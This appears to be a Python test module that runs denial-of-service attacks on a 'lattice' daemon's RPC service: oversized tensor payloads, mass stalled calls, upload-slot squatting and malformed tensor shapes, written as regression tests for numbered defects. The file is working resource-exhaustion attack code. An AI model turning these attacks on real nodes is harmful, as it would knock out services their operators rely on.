"""Attacks on the RPC service of a real daemon (issue 16, defects 1, 5, 6 and 14), with hand-made
RPC messages on real Yamux streams (so flow control is honest and only the RPC layer is attacked):

- :func:`big_payloads`: calls that declare a huge tensor (1 GiB) and send it, to a method that does
  not exist or does not take that much (the victim used to read every byte first);
- :func:`stalled_calls`: many calls that declare a huge tensor, send a little and stop (they used to
  hold the node's call slots for good);
- :func:`upload_squat`: ``lattice.upload.begin`` of huge tensors and no data (staging used to be one
  node-wide budget, and a re-begin refreshed the TTL);
- :func:`bad_shapes`: a tensor of shape [2**31, 2**31, 0] and 0 bytes (numpy refuses it after the
  checks passed: an unhandled ValueError), on calls of their own and on the fast lane.

Each takes the victim's multiaddr and returns a dict of what happened.
"""

from __future__ import annotations

import os
import time
from collections import Counter

import msgpack
import trio

from lattice.errors import LatticeError, StreamError
from lattice.identity import KeyPair
from lattice.rpc import wire
from lattice.transport import HostConfig, multistream, open_host

from .transport import RSSWatch

RPC = "/lattice/rpc/1.0.0"
LANE = "/lattice/rpc-lane/1.0.0"
MIB = 1 << 20


def negotiation(protocol: str = RPC) -> bytes:
    return multistream.encode(multistream.HEADER) + multistream.encode(protocol)


def tensor_doc(shape: list[int], nbytes: int, dtype: str = "uint8") -> bytes:
    """A value document holding one tensor descriptor (what tensors.encode would write)."""
    desc = msgpack.packb([dtype, shape, nbytes, "numpy", None, None], use_bin_type=True)
    return msgpack.packb(msgpack.ExtType(1, desc), use_bin_type=True)


def call_header(method: str, shape: list[int], nbytes: int, dtype: str = "uint8", call_id=None) -> bytes:
    doc = tensor_doc(shape, nbytes, dtype)
    return wire.encode_header(wire.CALL, doc, nbytes, method=method, last=True, call_id=call_id)


async def answer(stream, protocol: str = RPC) -> str:
    """What the victim says on a call stream: "ok", an error type ("MethodNotFound: ..."), "reset"."""
    try:
        buf = bytearray()
        if await multistream.read_message(stream, buf) != multistream.HEADER:
            return "bad negotiation"
        if await multistream.read_message(stream, buf) != protocol:
            return "protocol refused"
        stream.unread(bytes(buf))
        message = await wire.receive(stream, 1 << 30)
    except (StreamError, LatticeError) as exc:
        return "reset" if isinstance(exc, StreamError) else type(exc).__name__
    if message.kind == wire.ERR:
        return f"{message.error_type}: {message.error_message}"
    return "ok"


async def big_payloads(
    target: str,
    method: str,
    count: int = 3,
    size: int = 1 << 30,
    victim_pid: int | None = None,
    timeout: float = 60.0,
) -> dict:
    """``count`` concurrent calls to ``method``, each declaring and sending a ``size``-byte tensor
    (as fast as the victim's window allows) until the victim resets the stream."""
    watch = RSSWatch(victim_pid) if victim_pid else None
    replies: list[str] = []
    sent: list[int] = []
    piece = memoryview(bytes(4 * MIB))
    started = time.monotonic()

    async with open_host(KeyPair.generate(), HostConfig()) as host:
        conn = await host.connect(target)

        async def one() -> None:
            stream = await conn.session.open_stream()
            done = 0
            try:
                await stream.write(negotiation() + call_header(method, [size], size))
                while done < size:
                    n = min(len(piece), size - done)
                    await stream.write(piece[:n])
                    done += n
                await stream.write(b"\0\0\0\0", fin=True)  # a checksum (wrong: it does not matter)
            except StreamError:
                pass  # refused: the victim reset the stream
            sent.append(done)
            replies.append(await answer(stream))

        async with trio.open_nursery() as nursery:
            if watch is not None:
                nursery.start_soon(watch.run)
            with trio.move_on_after(timeout):
                async with trio.open_nursery() as calls:
                    for _ in range(count):
                        calls.start_soon(one)
            nursery.cancel_scope.cancel()
    out = {
        "calls": count,
        "declared_bytes": size,
        "sent_mib": [round(s / MIB, 1) for s in sent],
        "replies": [r[:120] for r in replies],
        "seconds": round(time.monotonic() - started, 2),
    }
    if watch is not None:
        out.update(victim_rss_start_mib=round(watch.start, 1), victim_rss_peak_mib=round(watch.peak, 1))
    return out


async def stalled_calls(
    target: str,
    method: str,
    identities: int = 33,
    per_identity: int = 64,
    declare: int = 1 << 30,
    send: int = 1024,
    hold: float = 10.0,
) -> dict:
    """``identities`` x ``per_identity`` calls declaring ``declare`` bytes, each sending ``send``
    bytes of it and then nothing; waits up to ``hold`` seconds for the victim to end them. Reports
    how each ended (its error reply, or "reset" with no reply: a stalled call the victim reset) and
    when (seconds after it was sent)."""
    outcomes: Counter = Counter()
    ended_after: list[float] = []  # calls the victim reset without a word (reaped as idle)
    opened = 0
    header = negotiation() + call_header(method, [declare], declare) + bytes(send)

    async def attacker() -> None:
        nonlocal opened
        async with open_host(KeyPair.generate(), HostConfig()) as host:
            conn = await host.connect(target)
            async with trio.open_nursery() as mine:
                for _ in range(per_identity):
                    try:
                        stream = await conn.session.open_stream()
                        await stream.write(header)
                    except LatticeError:
                        outcomes["not opened"] += 1
                        continue
                    opened += 1
                    mine.start_soon(watch, stream, time.monotonic())

    async def watch(stream, since: float) -> None:
        reply = await answer(stream)
        kind = reply.split(":")[0]
        outcomes[kind] += 1
        if kind == "reset":
            ended_after.append(round(time.monotonic() - since, 2))

    started = time.monotonic()
    with trio.move_on_after(hold):
        async with trio.open_nursery() as nursery:
            for _ in range(identities):
                nursery.start_soon(attacker)
    ended = sum(outcomes.values()) - outcomes["not opened"]
    return {
        "calls": identities * per_identity,
        "opened": opened,
        "ended": ended,
        "outcomes": dict(outcomes),
        "reset_after_s": sorted(ended_after),
        "seconds": round(time.monotonic() - started, 2),
    }


async def upload_squat(target: str, identities: int = 2, nbytes: int = 4 << 30) -> dict:
    """Each of ``identities`` begins a resumable upload of ``nbytes`` and never sends a chunk, then
    begins it again (a re-begin used to refresh its TTL). Reports the victim's answers."""
    replies: list[str] = []
    for _ in range(identities):
        async with open_host(KeyPair.generate(), HostConfig()) as host:
            conn = await host.connect(target)
            req = {"id": os.urandom(16), "dtype": "uint8", "shape": [nbytes], "chunk": 8 * MIB}
            doc = msgpack.packb(req, use_bin_type=True)
            begin = wire.encode_header(wire.CALL, doc, 0, method="lattice.upload.begin", last=True)
            for _ in range(2):
                stream = await conn.session.open_stream()
                await stream.write(negotiation() + begin, fin=True)
                replies.append((await answer(stream))[:160])
    return {"identities": identities, "declared_bytes": nbytes, "replies": replies}


async def bad_shapes(target: str, method: str, calls: int = 6, lane_calls: int = 6) -> dict:
    """Calls to ``method`` whose tensor has shape [2**31, 2**31, 0] (float32, 0 bytes): ``calls`` on
    streams of their own, then ``lane_calls`` on fast lanes (a lane the victim drops is reopened).
    Reports the replies and whether the victim ended up closing our connection (a ban)."""
    shape = [1 << 31, 1 << 31, 0]
    replies: list[str] = []
    disconnected = False
    keypair = KeyPair.generate()
    async with open_host(keypair, HostConfig()) as host:
        conn = await host.connect(target)
        for i in range(calls + lane_calls):
            protocol, cid = (LANE, 1) if i >= calls else (RPC, None)
            try:
                stream = await conn.session.open_stream()
                await stream.write(negotiation(protocol) + call_header(method, shape, 0, "float32", cid))
                replies.append((await answer(stream, protocol))[:160])
            except LatticeError as exc:
                replies.append(f"{type(exc).__name__}: {exc}"[:160])
            if conn.session.closed:
                disconnected = True
                break
        await trio.sleep(0.2)
        disconnected = disconnected or conn.session.closed
    return {
        "peer_id": str(keypair.peer_id),
        "calls": len(replies),
        "replies": replies,
        "disconnected": disconnected,
    }
